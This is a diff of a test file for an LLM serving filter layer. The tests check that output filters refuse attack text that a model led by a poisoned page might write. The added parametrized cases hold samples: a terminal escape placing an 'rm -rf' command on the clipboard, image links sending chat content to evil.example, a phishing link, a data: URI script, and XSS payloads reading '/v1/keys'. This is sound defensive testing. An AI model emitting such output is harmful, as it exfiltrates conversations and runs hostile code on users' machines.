@@ -1,8 +1,12 @@
 """What clients send is refused or passes unchanged with notes; a provenance wrapper is set aside and reported."""
 
+import re
+from pathlib import Path
+
 import pytest
 
-from phalanx.errors import DataError
+from phalanx.config import load_config
+from phalanx.errors import ConfigError, DataError
 from phalanx.serve.filters import FilterNote, FiltersConfig, InputFilters, OutputFilters, TextFilters, TextRefused
 from phalanx.serve.marks.wrapper import make_wrapper
 
@@ -136,7 +140,7 @@ def test_no_note_and_no_refusal_has_a_character_of_the_text():
 
 
 def test_hosts_that_are_allowed_need_no_note():
-    filters = TextFilters(FiltersConfig(output=OutputFilters(allowed_hosts=("example.org",), links="refuse")))
+    filters = TextFilters(FiltersConfig(output=OutputFilters(allowed_hosts=("Example.org",), links="refuse")))
 
     assert filters.check_output("see https://docs.example.org/a and ![x](https://example.org/x.png)") == []
     for host in ("evil.org", "example.org.evil.org", "notexample.org", "example.org@evil.org", "user%40example.org"):
@@ -167,3 +171,51 @@ def test_a_list_or_index_that_cannot_be_read_stops_the_start(tmp_path):
     ):
         with pytest.raises(DataError):
             TextFilters(FiltersConfig(output=output))
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("terminal_controls", "Done.\x1b]52;c;cm0gLXJm\x07 \x1b[2J"),
+        ("hidden_characters", "Here you are." + as_tags("locker code 4711")),
+        ("secrets", "The key in the file was ghp_" + "a1B2" * 9 + " as far as I remember."),
+        ("personal_data", "Ann's card is 4111 1111 1111 1111, she said."),
+        ("images", "![loading](https://evil.example/?chat=what+you+said)"),
+        ("images", '<img src="//evil.example/?chat=what+you+said">'),
+        ("images", "![loading][1]\n\n[1]: https://evil.example/?chat=what+you+said"),
+        ("links", "[your bank](https://bank.example.evil.example/login)"),
+        ("links", "[click](data:text/html;base64,PHNjcmlwdD4=)"),
+        ("markup", "<svg/onload=alert(1)> <script>fetch('/v1/keys')</script>"),
+        ("markup", "<details open ontoggle = alert(1)>"),
+    ],
+)
+def test_each_attack_of_an_output_wins_where_its_filter_is_off(name, text):
+    """The attacker has a model that writes the text, as a poisoned page in its context could have it do."""
+
+    def told(filters):
+        stream = filters.open_stream()
+        return "".join(map(stream.feed, text)) + stream.close()
+
+    off = dict.fromkeys(OutputFilters().model_dump(exclude={"allowed_hosts", "canary_files", "topic_files"}), "off")
+    off["verbatim_index"] = None
+    assert told(TextFilters(FiltersConfig(output=OutputFilters(**off)))) == text
+    with pytest.raises(TextRefused, match=name):
+        told(TextFilters(FiltersConfig(output=OutputFilters(**off | {name: "refuse"}))))
+
+
+def test_a_file_configures_both_ways_and_the_example_of_the_page_is_one(tmp_path):
+    page = (Path(__file__).resolve().parents[3] / "docs" / "filters.md").read_text(encoding="utf-8")
+    file = tmp_path / "filters.toml"
+    file.write_text(re.search(r"```toml\n(.*?)```", page, re.DOTALL)[1], encoding="utf-8")
+
+    config = load_config(file, FiltersConfig)
+
+    assert config.input.instructions == "refuse"
+    assert config.output.allowed_hosts == ("docs.example.org",)
+    assert [path.name for path in (*config.output.topic_files, config.output.verbatim_index)] == [
+        "topics.txt",
+        "trained.npy",
+    ]
+    file.write_text('[output]\nsecrets = "mask"\n', encoding="utf-8")
+    with pytest.raises(ConfigError, match="secrets"):
+        load_config(file, FiltersConfig)
